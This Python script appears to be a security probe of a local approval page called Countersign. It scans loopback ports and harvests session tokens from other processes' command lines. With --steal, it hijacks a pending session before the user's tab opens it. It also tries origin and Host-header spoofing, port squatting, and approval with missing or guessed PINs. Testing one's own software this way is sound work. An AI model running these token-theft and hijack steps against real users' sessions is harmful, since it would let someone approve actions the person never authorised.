#!/usr/bin/env python3
"""Finds the page of a waiting call and talks to it as any program of this user can.

    loopback.py [--steal]    --steal opens the link, which it reads from the browser's words, before the person's tab does
"""
import glob, json, os, re, socket, sys, time


def tried(what, came):
    print(f"tried: {what} -> {' '.join(str(came).split())[:200]}", flush=True)


def listeners():
    """Ports that listen on loopback."""
    found = set()
    for file in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in open(file).read().splitlines()[1:]:
            words = line.split()
            host, port = words[1].split(":")
            if words[3] == "0A" and host in ("0100007F", "00000000000000000000000001000000"):
                found.add(int(port, 16))
    return sorted(found)


def ask(port, method, path, body=None, host=None, origin=None, more=""):
    """One request; the status line and the body."""
    host = host or f"localhost:{port}"
    text = "" if body is None else json.dumps(body)
    origin = f"Origin: {origin}\r\n" if origin else ""
    head = f"{method} {path} HTTP/1.1\r\nHost: {host}\r\n{origin}{more}Content-Type: application/json\r\n"
    head += f"Content-Length: {len(text)}\r\nConnection: close\r\n\r\n"
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=30) as wire:
            wire.settimeout(30)
            wire.sendall((head + text).encode())
            answer = b""
            while piece := wire.recv(65536):
                answer += piece
    except OSError as error:
        return f"error {error}", ""
    head, _, rest = answer.decode(errors="replace").partition("\r\n\r\n")
    return head.split("\r\n")[0], rest


def links():
    """Links among the words of any program's start, on this desktop (others may run beside it)."""
    found, desktop = [], os.path.dirname(os.environ["COUNTERSIGN_HOME"])
    for file in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            words = open(file, "rb").read().decode(errors="replace")
        except OSError:
            continue
        if desktop not in words:
            continue
        found += re.findall(r"http://localhost:(\d+)/#([A-Za-z0-9_-]{20,})", words)
    return [(int(port), token) for port, token in found]


def page():
    """The port of the page: of all that listen, one that says so and that a browser here was sent to."""
    end = time.time() + 15
    while time.time() < end:
        here = {port for port, _ in links()}
        for port in listeners():
            if port in here:
                status, text = ask(port, "GET", "/")
                if "200" in status and "Countersign" in text:
                    return port
        time.sleep(0.2)
    return None


def squat(port):
    """Listens beside the page, at every address where a browser might look for `localhost`; how many of them it got."""
    got = []
    for family, host in ((socket.AF_INET6, "::1"), (socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::"), (socket.AF_INET, "0.0.0.0")):
        for option in (None, socket.SO_REUSEADDR, socket.SO_REUSEPORT):
            with socket.socket(family, socket.SOCK_STREAM) as wire:
                if option is not None:
                    wire.setsockopt(socket.SOL_SOCKET, option, 1)
                try:
                    wire.bind((host, port))
                    wire.listen()
                    got.append(host)
                except OSError:
                    pass
    return got


def main():
    port = page()
    tried("find the page", port)
    if port is None:
        sys.exit(1)
    ours = f"http://localhost:{port}"
    guess = "x" * 43
    for path in ("/approve", "/state", "/deny"):
        tried(f"POST {path} without a session", ask(port, "POST", path, {}, origin=ours))
        tried(f"POST {path} with a guessed session", ask(port, "POST", path, {"session": guess, "core": 1}, origin=ours))
    tried("POST /open with a guessed token", ask(port, "POST", "/open", {"token": guess}, origin=ours))
    tried("from another origin", ask(port, "POST", "/approve", {"session": guess}, origin="http://localhost:1"))
    tried("without an origin", ask(port, "POST", "/approve", {"session": guess}))
    tried("another name for loopback", ask(port, "GET", "/", host=f"attacker.example:{port}"))
    tried("as if from another site", ask(port, "POST", "/approve", {"session": guess}, origin=ours, more="Sec-Fetch-Site: cross-site\r\n"))
    tried("listen at the page's own port", f"{len(squat(port))} addresses")
    found = [(where, token) for where, token in links() if where == port]
    tried("read the link from the browser's words", f"{len(found)} found")
    if "--steal" not in sys.argv or not found:
        return
    status, said = ask(port, "POST", "/open", {"token": found[-1][1]}, origin=ours)
    tried("open the link first", status)
    session = json.loads(said).get("session") if "200" in status else None
    if session is None:
        return
    core = json.loads(ask(port, "POST", "/state", {"session": session}, origin=ours)[1])["view"]["core"]
    time.sleep(1)
    body = {"session": session, "core": core}
    tried("approve without a PIN", ask(port, "POST", "/approve", body, origin=ours))
    tried("approve with an empty PIN", ask(port, "POST", "/approve", {**body, "pin": ""}, origin=ours))
    for what in ("approve with a guessed PIN", "approve with another guess at once"):
        tried(what, ask(port, "POST", "/approve", {**body, "pin": "correct horse battery"}, origin=ours))
    tried("approve another version", ask(port, "POST", "/approve", {**body, "core": core + 1, "pin": "x"}, origin=ours))


if __name__ == "__main__":
    main()
